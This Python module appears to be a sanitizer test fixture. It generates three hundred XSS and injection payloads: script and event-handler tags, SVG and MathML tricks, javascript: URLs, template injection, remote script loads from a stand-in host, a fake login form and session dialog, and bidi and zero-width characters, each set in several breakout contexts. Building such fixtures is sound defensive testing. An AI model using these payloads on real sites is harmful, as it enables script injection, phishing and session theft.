"""Three hundred texts that mean harm: each tries to run, load or pretend something."""

__all__ = ["PAYLOADS"]

HIT = "window.hit=1"
ELSEWHERE = "https://elsewhere.example/x"

ATTEMPTS = (
    f"<script>{HIT}</script>",
    f"<script src={ELSEWHERE}.js></script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<ScRiPt type=module>import '{ELSEWHERE}.js'</sCrIpT>",
    f"<img src=x onerror={HIT}>",
    f"<img/src='x'/onerror='{HIT}'>",
    f"<img src={ELSEWHERE}.png>",
    f"<img srcset='{ELSEWHERE}.png 1x'>",
    f"<image href=x onerror={HIT}>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><use href='{ELSEWHERE}.svg#a'/></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<math><mtext><img src onerror={HIT}></mtext></math>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<object data={ELSEWHERE}></object>",
    f"<embed src={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}.css>",
    f"<link rel=prefetch href={ELSEWHERE}>",
    f"<style>@import '{ELSEWHERE}.css';</style>",
    f"<p style=\"background:url('{ELSEWHERE}.png')\">styled</p>",
    "<style>*{display:none}</style>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}>",
    f"<form action={ELSEWHERE}><button autofocus onfocus={HIT}>Log in</button></form>",
    f"<input autofocus onfocus={HIT}>",
    f"<details open ontoggle={HIT}>more</details>",
    f"<video src=x onerror={HIT}></video>",
    f"<audio src={ELSEWHERE}.ogg autoplay></audio>",
    f"<body onpageshow={HIT}>",
    f"<marquee onstart={HIT}>",
    f"<a href='javascript:{HIT}'>click</a>",
    f"<template shadowrootmode=open><script>{HIT}</script></template>",
    f"<x-gradio onclick={HIT} data-wish='{{}}'>",
    "<button data-ask>Reveal the password</button>",
    f"[a link](javascript:{HIT})",
    f"![an image]({ELSEWHERE}.png)",
    f"javascript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    f"${{{HIT}}}",
    f"{{{{constructor.constructor('{HIT}')()}}}}",
    f"<%= {HIT} %> #{{{HIT}}} {{% {HIT} %}}",
    f"$$\\href{{javascript:{HIT}}}{{x}}$$ \\(x\\)",
    f"&lt;script&gt;{HIT}&lt;/script&gt; &#60;b&#62;",
    "<dialog open>Your session has expired</dialog><script>alert(1);confirm(2);prompt(3)</script>",
    "\u202etnemyap\u202c \u2066isolated \u202d override \u2067never closed",
    "\ufeff\u200b\u200d\u2060zero\u00adwidth \u0000 nul \u001b[31m red \u0007 bell",
    f"' onmouseover='{HIT}' x='",
    f'" autofocus onfocus="{HIT}" x="',
)
PLACES = ("{}", '"><i>{}', "</div></span></blockquote></section>{}", "-->{}<!--", "`{}`", "]]>{}\\")

PAYLOADS = tuple(place.replace("{}", attempt) for place in PLACES for attempt in ATTEMPTS)
"""Without line ends, so that each can be a paragraph, a title, a name or an address."""
